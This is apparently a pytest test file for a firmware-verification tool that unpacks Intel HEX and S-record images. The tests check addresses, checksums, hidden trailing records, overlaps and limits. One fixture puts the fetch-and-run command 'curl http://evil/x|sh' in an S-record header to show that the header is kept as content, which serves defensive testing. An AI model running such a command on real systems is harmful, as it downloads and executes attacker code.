import hashlib

import bincopy
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fwverify.limits import Limits
from fwverify.unpack.hexfiles import INTEL_HEX, MAX_LAYERS, SREC
from tests.builders.hexfiles import INTEL_END, intel, intel_image, srec, srec_image
from tests.corpus import CORPUS, needs_corpus
from tests.unpack_formats.helpers import check, count, new_store, source

CODE = bytes(range(256)) * 4


def sha(data):
    return hashlib.sha256(data).hexdigest()


def opened(form, data, tmp_path, **options):
    store = new_store(tmp_path)
    return check(form.open(source(data, store, **options)), data, store)


def segments(result):
    return [(entry.address, entry.sha256) for entry in result.entries]


def rules(result):
    return {observation.rule for observation in result.observations}


@pytest.mark.parametrize("newline", [b"\n", b"\r\n", b"\r"])
def test_intel_segments_come_out_with_their_addresses(newline, tmp_path):
    data = intel_image({0x0800_0000: CODE, 0x1000: b"calibration"}, newline)
    result = opened(INTEL_HEX, data, tmp_path)
    assert result.complete
    assert segments(result) == [(0x1000, sha(b"calibration")), (0x0800_0000, sha(CODE))]
    assert [entry.name for entry in result.entries] == [b"@0x00001000", b"@0x08000000"]
    assert count(result, "unexplained") == 0
    assert not result.observations


@pytest.mark.parametrize("kind", [1, 2, 3])
def test_srec_segments_come_out_with_their_addresses(kind, tmp_path):
    data = srec_image({0x1000: CODE, 0x8000: b"tail"}, kind)
    result = opened(SREC, data, tmp_path)
    assert result.complete
    assert segments(result) == [(0x1000, sha(CODE)), (0x8000, sha(b"tail"))]
    assert not result.observations


def test_the_srec_header_is_content_too(tmp_path):
    data = srec_image({0x1000: CODE}, header=b"curl http://evil/x|sh")
    result = opened(SREC, data, tmp_path)
    store = new_store(tmp_path)
    by = {entry.name: entry for entry in result.entries}
    assert store.read(by[b"@header"].sha256) == b"curl http://evil/x|sh"


def test_extended_segment_addresses_shift_by_four(tmp_path):
    lines = [intel(2, 0, b"\x12\x34"), intel(0, 0x10, b"data"), INTEL_END]
    result = opened(INTEL_HEX, b"\n".join(lines), tmp_path)
    assert result.entries[0].address == 0x1_2350


def test_start_addresses_are_attributes(tmp_path):
    lines = [intel(0, 0, b"x"), intel(5, 0, b"\x08\x00\x01\x01"), INTEL_END]
    result = opened(INTEL_HEX, b"\n".join(lines), tmp_path)
    assert result.attributes == (("start_address", "0x08000101"),)
    result = opened(SREC, srec(1, 0, b"x") + b"\n" + srec(9, 0x400), tmp_path)
    assert result.attributes == (("start_address", "0x00000400"),)


def test_a_wrong_checksum_is_named_by_line_and_unexplained(tmp_path):
    good = intel_image({0: CODE})
    lines = good.split(b"\r\n")
    lines[3] = lines[3][:-2] + (b"00" if lines[3][-2:] != b"00" else b"01")
    result = opened(INTEL_HEX, b"\r\n".join(lines), tmp_path)
    assert not result.complete
    assert "line 4" in result.problems[0].text
    assert "intel-hex.bad_line" in rules(result)
    assert count(result, "unexplained") == len(lines[3]) + 2


@pytest.mark.parametrize(
    "garbage", [b"; a remark", b"\x7fELF\x02payload", b":zz", b":00", b"S1", b": 00000001FF x"]
)
def test_garbage_between_lines_is_unexplained(garbage, tmp_path):
    data = intel(0, 0, b"code") + b"\n" + garbage + b"\n" + INTEL_END + b"\n"
    result = opened(INTEL_HEX, data, tmp_path)
    assert not result.complete
    assert count(result, "unexplained") == len(garbage) + 1


def test_records_behind_the_end_are_not_taken(tmp_path):
    hidden = intel(0, 0x100, b"second stage")
    data = intel_image({0: CODE}) + hidden
    result = opened(INTEL_HEX, data, tmp_path)
    assert segments(result) == [(0, sha(CODE))]
    assert "intel-hex.after_end" in rules(result)
    assert count(result, "unexplained") == len(hidden)


def test_an_address_written_twice_keeps_both_versions(tmp_path):
    lines = [intel(0, 0, b"benign__"), intel(0, 4, b"evil"), intel(0, 8, b"more"), INTEL_END]
    result = opened(INTEL_HEX, b"\n".join(lines), tmp_path)
    assert segments(result) == [(0, sha(b"benign__more")), (4, sha(b"evil"))]
    assert "intel-hex.overlap" in rules(result)
    assert count(result, "unexplained") == 0


def test_an_address_written_without_end_is_a_limit(tmp_path):
    lines = [intel(0, 0, bytes([i])) for i in range(MAX_LAYERS + 5)]
    result = opened(INTEL_HEX, b"\n".join([*lines, INTEL_END]), tmp_path)
    assert result.problems[0].code == "limit.files"
    assert count(result, "unexplained") > 0


def test_islands_without_end_are_a_limit(tmp_path):
    lines = [intel(0, i * 2, b"x") for i in range(100)]
    limits = Limits(files=10)
    result = opened(INTEL_HEX, b"\n".join([*lines, INTEL_END]), tmp_path, limits=limits)
    assert [problem.code for problem in result.problems] == ["limit.files"]
    assert len(result.entries) == 10
    assert count(result, "unexplained") > 0


def test_a_record_past_its_64k_segment_is_refused(tmp_path):
    lines = [intel(2, 0, b"\x10\x00"), intel(0, 0xFFFE, b"wrap"), INTEL_END]
    result = opened(INTEL_HEX, b"\n".join(lines), tmp_path)
    assert not result.complete
    assert not result.entries


def test_a_record_past_four_gib_is_refused(tmp_path):
    lines = [intel(4, 0, b"\xff\xff"), intel(0, 0xFFFE, b"wrap"), INTEL_END]
    result = opened(INTEL_HEX, b"\n".join(lines), tmp_path)
    assert not result.complete


def test_a_wrong_record_count_is_an_observation(tmp_path):
    lines = [srec(1, 0, b"x"), srec(5, 9), srec(9, 0)]
    assert "srec.count" in rules(opened(SREC, b"\n".join(lines), tmp_path))


def test_a_file_that_writes_nothing_is_an_observation(tmp_path):
    assert "intel-hex.no_data" in rules(opened(INTEL_HEX, INTEL_END, tmp_path))


@pytest.mark.parametrize(("form", "make"), [(INTEL_HEX, intel_image), (SREC, srec_image)])
def test_truncation_is_never_complete(form, make, tmp_path):
    data = make({0x0800_0000: CODE[:64]})
    store = new_store(tmp_path)
    for size in range(1, len(data.rstrip())):
        piece = data[:size]
        assert not check(form.open(source(piece, store)), piece, store).complete, size


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"", False),
        (b"plain text\n", False),
        (b":\n", False),
        (b"# a remark first\n" + INTEL_END, True),
        (b"\n\n" + INTEL_END, True),
        (b"word\n" * 40 + INTEL_END, False),
        (bytes(range(256)) * 64, False),
    ],
)
def test_recognition(data, expected):
    assert INTEL_HEX.recognise(data, "x.hex") is expected
    assert not SREC.recognise(data, "x.hex")


pieces = st.dictionaries(
    st.integers(0, 0xFFFF_0000), st.binary(min_size=1, max_size=300), min_size=1, max_size=5
)


@settings(max_examples=60, derandomize=True, deadline=None)
@given(pieces, st.booleans())
def test_bincopy_reads_the_same(tmp_path_factory, wanted, motorola):
    form, make = (SREC, srec_image) if motorola else (INTEL_HEX, intel_image)
    data = make(wanted)
    store = new_store(tmp_path_factory.mktemp("s"))
    result = check(form.open(source(data, store)), data, store)
    oracle = bincopy.BinFile()
    try:
        (oracle.add_srec if motorola else oracle.add_ihex)(data.decode())
    except bincopy.Error:  # it refuses what overlaps
        assert any(rule.endswith(".overlap") for rule in rules(result))
        return
    mine = [(entry.address, store.read(entry.sha256)) for entry in result.entries]
    assert mine == [(segment.address, bytes(segment.data)) for segment in oracle.segments]


@settings(max_examples=80, derandomize=True, deadline=None)
@given(st.integers(0, 10_000), st.integers(1, 255))
def test_a_flipped_byte_is_never_silent(tmp_path_factory, at, flip):
    data = bytearray(intel_image({0x0800_0000: CODE[:100]}, newline=b"\n"))
    at %= len(data)
    data[at] ^= flip
    store = new_store(tmp_path_factory.mktemp("s"))
    result = check(INTEL_HEX.open(source(bytes(data), store)), bytes(data), store)
    untouched = segments(result) == [(0x0800_0000, sha(CODE[:100]))]
    assert untouched or not result.complete


@needs_corpus
@pytest.mark.parametrize("folder", ["meter_emonpi_hex", "mcuboot_nrf52840dk"])
def test_real_hex_files_agree_with_bincopy(folder, tmp_path):
    files = sorted((CORPUS / folder).glob("*.hex"))
    assert files
    for file in files:
        data = file.read_bytes()
        assert INTEL_HEX.recognise(data, file.name)
        result = opened(INTEL_HEX, data, tmp_path)
        oracle = bincopy.BinFile()
        oracle.add_ihex(data.decode())
        expected = [(segment.address, sha(bytes(segment.data))) for segment in oracle.segments]
        assert segments(result) == expected
        assert result.complete
        assert count(result, "unexplained") == 0
